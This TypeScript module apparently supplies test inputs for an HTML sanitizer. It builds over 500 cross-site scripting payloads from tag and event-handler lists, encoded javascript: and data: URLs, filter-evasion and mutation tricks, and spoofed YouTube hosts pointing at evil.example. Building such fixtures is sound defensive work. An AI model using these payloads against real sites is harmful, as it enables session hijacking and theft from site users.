/** Script injections: each place where a script runs, in each encoding that a filter may overlook. */
const call = 'alert(1)';

const tags =
  'a abbr article audio b base bgsound blink body button canvas center custom-tag details dialog div embed fieldset font footer form frame frameset h1 h2 head header html i iframe image img input isindex keygen label layer link listing main map marquee math meta noembed noframes noscript object optgroup option p param picture plaintext portal pre q script select slot source span strike style summary svg table td template textarea th title tr track tt video xmp xss'.split(
    ' ',
  );

const handlers =
  'onabort onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput onbeforetoggle onblur onbounce oncanplay onchange onclick onclose oncontextmenu oncopy oncut ondblclick ondrag ondragend ondrop onend onerror onfinish onfocus onfocusin onformdata onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onloadstart onmessage onmousedown onmouseenter onmousemove onmouseover onmouseup onmousewheel onpageshow onpaste onplay onpointerdown onpointerenter onpointerover onpointerrawupdate onpopstate onprogress onreset onresize onscroll onscrollend onsearch onselect onselectstart onshow onstart onsubmit ontimeupdate ontoggle ontouchstart ontransitionend onunload onwebkitanimationend onwheel'.split(
    ' ',
  );

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `\u0001javascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `java&#9;script:${call}`,
  `java&#x0A;script:${call}`,
  `java&NewLine;script:${call}`,
  `javascript&colon;${call}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:${call}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${call}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${call}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  `feed:javascript:${call}`,
  `jar:javascript:${call}`,
  `livescript:${call}`,
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  '//evil.example/x',
  '/\\evil.example/x',
  'http://www.youtube.com@evil.example/embed/aaaaaaaaaaa',
  'https://www.youtube.com.evil.example/embed/aaaaaaaaaaa',
  'https://www.youtube.com/embed/"onload=alert(1)//',
  'https://www.youtube.com/redirect?q=javascript:alert(1)',
];

const holders: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}'>x</a>`,
  (address) => `<a data-video="${address}">x</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<img data-src="${address}">`,
  (address) => `<img srcset="${address} 2x">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<iframe data-src="${address}" title="${address}">`,
  (address) => `<form action="${address}"><button formaction="${address}">x</button></form>`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a><use href="${address}"/></svg>`,
  (address) => `<math href="${address}"><mtext>x</mtext></math>`,
  (address) => `<p style="background:url('${address}')">x</p>`,
];

const classics = [
  `<script>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script/src=//evil.example></script>`,
  `<<script>${call}//<</script>`,
  `<script\u0000>${call}</script>`,
  `<script >${call}</script\n>`,
  `<img src=x onerror=${call}`,
  `<img src="x"onerror="${call}">`,
  `<img/src/onerror=${call}>`,
  '<img src=`x` onerror=`alert(1)`>',
  `<img """><script>${call}</script>">`,
  `"><svg onload=${call}>`,
  `'><svg/onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${call}>">`,
  `<xmp><p title="</xmp><svg/onload=${call}>">`,
  `<title><a title="</title><img src=x onerror=${call}>">`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe><p title="</iframe><img src=x onerror=${call}>"></iframe>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!--[if IE]><script>${call}</script><![endif]-->`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<?xml version="1.0"?><script>${call}</script>`,
  `<!DOCTYPE x [<!ENTITY y "<script>${call}</script>">]>&y;`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${call}`,
  `<a href="x" style="x:expression(${call})">x</a>`,
  `<div style="position:fixed;inset:0"><a href="//evil.example">x</a></div>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<base href="javascript:${call}//">`,
  `<link rel=stylesheet href="javascript:${call}">`,
  `<style>@import 'javascript:${call}';</style>`,
  `<form id=x><input name=action></form><button form=x formaction=javascript:${call}>x`,
  `<p id="location" name="cookie">x</p>`,
  `<a data-video="https://www.youtube-nocookie.com/embed/aaaaaaaaaaa">forged</a>`,
  `data-video="https://www.youtube-nocookie.com/embed/aaaaaaaaaaa">`,
  `<p title='data-video="https://www.youtube-nocookie.com/embed/aaaaaaaaaaa">'>x</p>`,
  `<b><b><b`.repeat(50),
  '<div>'.repeat(500),
];

/** All injections, more than 500. */
export const scriptInjections: readonly string[] = [
  ...classics,
  ...tags.flatMap((tag) => [
    `<${tag} onload=${call}>x</${tag}>`,
    `<${tag.toUpperCase()} onerror="${call}" src=x style="x" id=y class=z>`,
    `<${tag}/onfocus='${call}'/autofocus tabindex=1>x`,
  ]),
  ...handlers.flatMap((handler) => [
    `<img src="x" ${handler}="${call}">`,
    `<a href="/x" ${handler.toUpperCase()}=${call}>x</a>`,
    `<p ${handler}\n=\n"${call}">x</p>`,
  ]),
  ...addresses.flatMap((address) => holders.map((holder) => holder(address))),
];
